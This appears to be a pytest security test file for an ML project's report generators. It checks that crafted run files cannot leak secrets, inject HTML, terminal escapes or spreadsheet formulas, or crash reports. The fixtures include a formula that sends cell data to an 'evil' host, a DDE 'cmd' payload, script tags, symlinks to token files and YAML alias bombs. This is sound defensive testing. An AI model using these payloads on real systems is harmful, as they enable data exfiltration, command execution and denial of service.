"""Run folders handed over from elsewhere are data for the reports (security audit): a figure linked to a secret
is not embedded, text from ``failed.json`` / overrides / method names cannot drive the terminal, inject HTML or
a spreadsheet formula, and a crafted file does not stop a report."""
from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from engine.predict import Models
from engine.run_files import csv_text, md_text, plain_text, run_figure
from experiments import decathlon_report, kd_report, report
from experiments.kd_runs import collect
from lightning_modules.errors import CheckpointError

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
NASTY = "boom [/bold] \x1b]0;PWNED\x07\x1b[2J <script>alert(1)</script> a|b\nsecond line"


def _run(root: Path, name: str, metrics: dict | None = None, overrides: list | None = None) -> Path:
    run = root / name
    (run / ".hydra").mkdir(parents=True)
    if metrics is not None:
        (run / "metrics.json").write_text(json.dumps(metrics))
    (run / ".hydra" / "overrides.yaml").write_text(json.dumps(overrides or []))
    return run


def test_a_figure_linked_out_of_its_run_or_not_a_png_is_not_embedded(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("MY_API_TOKEN=sk-live-abc123")
    run = _run(tmp_path / "runs", "a", {"test/dice": 0.5})
    (run / "test_roc.png").symlink_to(secret)  # found by the audit: /proc/self/environ was embedded this way
    (run / "test_overlays.png").write_text("not a png")
    (run / "learning_curves.png").write_bytes(PNG)
    assert report.main([str(tmp_path / "runs"), "--out", str(tmp_path / "out")]) == 0
    page = (tmp_path / "out" / "report.html").read_text()
    assert base64.b64encode(secret.read_bytes()).decode()[:20] not in page
    assert base64.b64encode(b"not a png").decode() not in page
    assert base64.b64encode(PNG).decode() in page
    assert run_figure(run, "test_roc.png") is None and run_figure(run, "learning_curves.png") == run / "learning_curves.png"


def test_text_from_run_files_is_plain_in_terminal_markdown_html_and_csv(tmp_path, capsys):
    runs = tmp_path / "runs"
    _run(runs, "a", {"test/dice": 0.5}, ['=HYPERLINK("http://evil/?"&A1,"x")', "model=a"])
    _run(runs, "b", {"test/dice": 0.6}, ["model=b"])
    failed = _run(runs, "c", None, ["model=c"])
    (failed / "failed.json").write_text(json.dumps({"error": NASTY}))
    assert report.main([str(runs)]) == 0  # "[/bold]" was rich's MarkupError
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed
    md = (runs / "report.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md and "\x1b" not in md and "second line" in md
    assert "<script>" not in (runs / "report.html").read_text()
    rows = (runs / "report.csv").read_text().splitlines()
    assert any(r.startswith("\"'=HYPERLINK") or r.startswith("'=HYPERLINK") for r in rows), rows


def test_crafted_metrics_and_logs_do_not_stop_a_report(tmp_path):
    runs = tmp_path / "runs"
    a = _run(runs, "a", {"test/dice": 0.5, "evaluation_matrix": [1, 2]})
    (a / "csv").mkdir()
    (a / "csv" / "metrics.csv").write_text("epoch,step,val/dice\n0,1,abc\nx,2,0.5\nnan,3,0.5\ninf,4,0.5\n1,5,0.6\n")
    _run(runs, "b", {"test/dice": 0.6, "evaluation_matrix": {"FL_global": [1]}})
    (runs / "b" / ".hydra" / "overrides.yaml").write_text(": not: yaml: [")
    assert report.main([str(runs)]) == 0


def test_kd_report_reads_crafted_files_as_data(tmp_path):
    run = tmp_path / "r1"
    run.mkdir()
    (run / "metrics.json").write_text(json.dumps({"distill/method": '=cmd|" /C calc"!A0', "test/dice": "abc"}))
    (run / "config.yaml").write_text("seed: [1]\ndistill: 5\n")
    bad = tmp_path / "r2"
    bad.mkdir()
    (bad / "failed.json").write_text("[1]")  # a bare json.loads then .get: AttributeError
    out = kd_report.report(tmp_path)
    assert "'=cmd" in (tmp_path / "kd_table1.csv").read_text()
    assert out["failed"][0]["error"] == "failed.json does not parse"


def test_the_text_helpers():
    assert plain_text("a\x1b[2Jb\nc\u009bd") == "a[2Jb cd"
    assert md_text("<b>|x") == "&lt;b&gt;\\|x" and md_text("a|b", cell=False) == "a|b"
    # no image or link a Markdown viewer renders (a second audit: an image URL fetched on viewing)
    assert md_text("![t](https://x/leak.png) [c](javascript:alert(1))") == \
        "!\\[t\\](https://x/leak.png) \\[c\\](javascript:alert(1))"
    assert csv_text("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0" and csv_text("=1+1") == "'=1+1"
    assert csv_text("+distill.loss.beta=0.5") == "+distill.loss.beta=0.5" and csv_text("hlfd") == "hlfd"


def test_federation_curves_skip_rounds_without_a_round_number(tmp_path):
    from federation.curves import compare_runs

    for seed in (1, 2):
        run = tmp_path / f"s{seed}"
        run.mkdir()
        (run / "rounds.csv").write_text("round,test/acc,test/loss\nx,0.6,0.9\nnan,0.6,0.9\n1,0.5,1.0\n2,0.7,0.8\n")
    compare_runs(tmp_path, "acc", "federation.strategy.mode", tmp_path / "cmp.png")
    assert (tmp_path / "cmp.csv").read_text().count("\n") == 5  # header + rounds 1, 2 of each run (its label)


def test_run_files_linked_elsewhere_nested_deep_or_alias_bombs_are_left_out(tmp_path, capsys):
    """A third audit: ``metrics.json`` and ``rounds.csv`` linked to files elsewhere were tabulated and plotted;
    JSON or YAML nested 200,000 deep were RecursionError tracebacks (report, kd_report, federation.curves); a
    YAML alias bomb in ``data.layout`` was expanded by ``str()``; a 128 KB CSV cell, a stray byte, a
    ``$\\undefinedcmd$`` label and round 1.5 ended ``federation.curves`` in tracebacks or duplicate rows."""
    from federation.curves import compare_runs

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "metrics.json").write_text(json.dumps({"test/dice": 0.99, "distill/method": "stolen"}))
    (elsewhere / "rounds.csv").write_text("round,test/acc\n1,0.99\n")
    runs = tmp_path / "runs"
    good = _run(runs, "good", {"test/dice": 0.5}, ["model=unet"])
    linked = _run(runs, "linked", None, ["model=dnet"])
    (linked / "metrics.json").symlink_to(elsewhere / "metrics.json")
    deep = _run(runs, "deep", None, ["model=x"])
    (deep / "metrics.json").write_text("[" * 200_000)
    (good / "config.yaml").write_text("data: " + "[" * 200_000)
    assert report.main([str(runs)]) == 0
    md = (runs / "report.md").read_text()
    assert "0.9900" not in md and "0.5000" in md and "2 run(s) left out" in capsys.readouterr().err
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    kd = tmp_path / "kd"
    for name, meta in (("bomb", {"test/dice": 0.4}), ("deep", None), ("linked", None)):
        (kd / name).mkdir(parents=True)
        if meta:
            (kd / name / "metrics.json").write_text(json.dumps(meta))
    (kd / "bomb" / "config.yaml").write_text(bomb + "data: {layout: *i}\n")
    (kd / "deep" / "failed.json").write_text("{" * 200_000)
    (kd / "linked" / "metrics.json").symlink_to(elsewhere / "metrics.json")
    out = kd_report.report(kd)
    assert "stolen" not in (kd / "kd_table1.csv").read_text() and out["failed"][0]["error"] == "failed.json does not parse"
    fed = tmp_path / "fed"
    rows = {"s1": "round,test/acc\n1,0.5\n1.5,0.6\n2,0.7\n", "s2": "round,test/acc\n1," + "9" * 140_000 + "\n",
            "s3": b"round,test/acc\n1,0.5\xff\n"}
    for name, text in rows.items():
        (fed / name).mkdir(parents=True)
        (fed / name / "rounds.csv").write_bytes(text if isinstance(text, bytes) else text.encode())
        (fed / name / "config.yaml").write_text("federation: {strategy: {mode: '$\\undefinedcmd{x}$'}}\n")
    (fed / "s4").mkdir()
    (fed / "s4" / "rounds.csv").symlink_to(elsewhere / "rounds.csv")
    compare_runs(fed, "acc", "federation.strategy.mode", tmp_path / "cmp.png")
    table = (tmp_path / "cmp.csv").read_text()
    assert table.count("\n") == 3 and "0.9900" not in table  # header + rounds 1 and 2 of s1
    err = capsys.readouterr().err
    assert all(f"{fed / s / 'rounds.csv'} left out" in err for s in ("s2", "s3", "s4"))


def test_predict_never_computes_ct_statistics_from_a_run_configs_data_folder(tmp_path):
    """Audit: a handed-over config with ``normalization: ct`` and a checkpoint without statistics made predict
    read the config's data folder and write its cache wherever the config said."""
    cfg = OmegaConf.create({"data": {"_target_": "x", "normalization": "ct", "cache_dir": str(tmp_path / "out")}})
    models = Models(nets=[], run_cfg=cfg, hparams={}, paths=[tmp_path / "best.ckpt"])
    with pytest.raises(CheckpointError, match=r"best\.ckpt holds no CT statistics .* data\.ct_stats="):
        models.data_overrides()
    assert Models(nets=[], run_cfg=cfg, hparams={}, data_state={"ct_stats": [0, 1, 0.5, 0.1]}).data_overrides() == \
        {"ct_stats": [0, 1, 0.5, 0.1]}


def test_sweep_outcome_counts_only_this_sweeps_jobs_in_a_reused_folder(tmp_path):
    """Review: in a reused sweep folder the job total counted earlier sweeps' jobs ("1 of 5 failed")."""
    import os
    import time

    from experiments import hydra_checks, sweep_jobs

    for old in ("0_old", "1_old"):
        (tmp_path / old / ".hydra").mkdir(parents=True)
        (tmp_path / old / "failed.json").write_text("{}")
        for p in (tmp_path / old / ".hydra", tmp_path / old / "failed.json"):
            os.utime(p, (time.time() - 3600, time.time() - 3600))
    outcome = hydra_checks.SweepOutcome()
    outcome.on_multirun_start(OmegaConf.create({"hydra": {"sweep": {"dir": str(tmp_path)}}}))
    for job in ("0_new", "1_new/nested"):
        (tmp_path / job / ".hydra").mkdir(parents=True)
    (tmp_path / "1_new" / "nested" / "failed.json").write_text("{}")  # a subdir with a '/' in it
    outcome.on_multirun_end(OmegaConf.create({}))
    assert sweep_jobs.sweep == {"failed": ["1_new/nested"], "jobs": 2}
    sweep_jobs.sweep.update(failed=[], jobs=0)


def test_code_spans_show_overrides_as_typed_and_stay_inert(tmp_path):
    """A walkthrough: "Common to every run" showed ``data.synthetic.shape=\\[32,32,8\\]`` (md_text's escapes are
    shown as typed inside a code span). A code span's content is literal to a Markdown viewer: only a backtick,
    which would end it, is replaced; report.html escapes it as HTML."""
    runs = tmp_path / "runs"
    common = ["data.synthetic.shape=[32,32,8]", "+tag=`<script>alert(1)</script>`"]
    _run(runs, "a", {"test/dice": 0.5}, [*common, "model=unet"])
    _run(runs, "b", {"test/dice": 0.6}, [*common, "model=dnet"])
    assert report.main([str(runs)]) == 0
    line = next(ln for ln in (runs / "report.md").read_text().splitlines() if ln.startswith("Common to every run"))
    assert "data.synthetic.shape=[32,32,8]" in line and line.count("`") == 2
    page = (runs / "report.html").read_text()
    assert "<script>" not in page and "data.synthetic.shape=[32,32,8]" in page


def test_linked_folders_inside_a_run_huge_numbers_and_alias_bombs(tmp_path, capsys):
    """A verification of the audit's fixes got past them: a run's ``.hydra/`` or ``csv/`` linked to a folder
    elsewhere was read (a secret in its overrides became a method name; its metrics were plotted); an alias
    bomb or ``/dev/zero`` as ``overrides.yaml`` exhausted memory in ``federation.curves``; ``1`` and 400 zeros in
    ``metrics.json`` and a list as ``env.json``'s packages were tracebacks; predict's ``OmegaConf.load`` expanded
    an alias bomb in a run's ``config.yaml``."""
    from engine.predict_models import read_run_config
    from federation.curves import compare_runs

    elsewhere = tmp_path / "elsewhere"
    (elsewhere / ".hydra").mkdir(parents=True)
    (elsewhere / ".hydra" / "overrides.yaml").write_text("- SECRET_TOKEN=hunter2\n")
    (elsewhere / "csv").mkdir()
    (elsewhere / "csv" / "metrics.csv").write_text("epoch,step,val/dice\n0,1,0.99\n1,2,0.98\n")
    runs = tmp_path / "runs"
    a = _run(runs, "a", {"test/dice": 0.5}, ["model=unet"])
    b = runs / "b"
    b.mkdir()
    (b / "metrics.json").write_text('{"test/dice": 1' + "0" * 400 + ', "test/miou": 0.5}')
    (b / "env.json").write_text('{"packages": ["torch"]}')
    (b / ".hydra").symlink_to(elsewhere / ".hydra")
    (b / "csv").symlink_to(elsewhere / "csv")
    (a / "env.json").write_text('{"packages": {"torch": "2"}}')
    assert report.main([str(runs), "--keys", "test/dice", "test/miou"]) == 0
    assert "SECRET_TOKEN" not in (runs / "report.md").read_text()
    assert report.read_curves([b])[b] == {}  # the linked csv/ is not plotted
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefg", "bcdefgh"))
    fed = tmp_path / "fed"
    for name in ("s1", "s2"):
        (fed / name / ".hydra").mkdir(parents=True)
        (fed / name / "rounds.csv").write_text("round,test/acc\n1,0.5\n")
    (fed / "s1" / ".hydra" / "overrides.yaml").write_text("- &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"- &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefg", "bcdefgh")))
    (fed / "s2" / ".hydra" / "overrides.yaml").write_text("- ['" + "[" * 50_000 + "']\n")
    compare_runs(fed, "acc", "federation.strategy.mode", tmp_path / "cmp.png")
    cfg = tmp_path / "config.yaml"
    cfg.write_text(bomb + "data: {_target_: datamodules.segmentation.VolumeSegmentationDataModule, x: *h}\n")
    with pytest.raises(CheckpointError, match="does not parse.*alias"):
        read_run_config(cfg)


def test_decathlon_report_treats_a_runs_config_and_metrics_as_data(tmp_path, capsys):
    """A security review: ``decathlon_report`` put a run's model label raw into decathlon.md (HTML, an extra cell),
    decathlon.csv (a spreadsheet formula) and a rich title (``[/bold]`` was rich's MarkupError), and ``float()`` of
    a text AUC in metrics.json was a ValueError traceback. The label is plain text now, a non-number skipped."""
    target = "=cmd|' /C calc'!A0 [/bold] <script>alert(1)</script>"  # no dot: _target_'s last part is the label
    for num, flag, metrics in ((0, "breastmnist", {"test/auc": "abc", "test/acc": 0.8}),
                               (1, "retinamnist", {"test/auc": 0.7, "test/acc": 0.5})):
        job = tmp_path / f"{num}_job"
        (job / ".hydra").mkdir(parents=True)
        (job / ".hydra" / "config.yaml").write_text(json.dumps({"data": {"flag": flag}, "model": {"_target_": target}}))
        (job / "metrics.json").write_text(json.dumps(metrics))
    assert decathlon_report.main([str(tmp_path)]) == 0
    assert "[/bold]" in capsys.readouterr().out  # printed as typed, not read as markup
    md = (tmp_path / "decathlon.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md and "cmd\\|" in md
    assert "| BreastMNIST | – | 0.800 |" in md and "| mean | 0.700 | 0.650 |" in md  # "abc" is no AUC
    rows = (tmp_path / "decathlon.csv").read_text().splitlines()[1:]
    assert rows and all(r.startswith("'=cmd") for r in rows), rows


def test_kd_report_reads_a_huge_rvd_as_no_number(tmp_path):
    """A security review: ``"test/rvd_tumor": 1`` and 400 zeros in metrics.json was an OverflowError in kd_report."""
    run = tmp_path / "r1"
    run.mkdir()
    (run / "metrics.json").write_text('{"distill/method": "hlfd", "test/dice": 0.5, "test/rvd_tumor": 1'
                                      + "0" * 400 + ', "test/rvd_liver": 0.25}')
    (run / "config.yaml").write_text("seed: 1\n")
    kd_report.report(tmp_path)
    assert collect(tmp_path)[0][0]["rvd"] == 0.25  # the next class's RVD, as for a missing tumour one
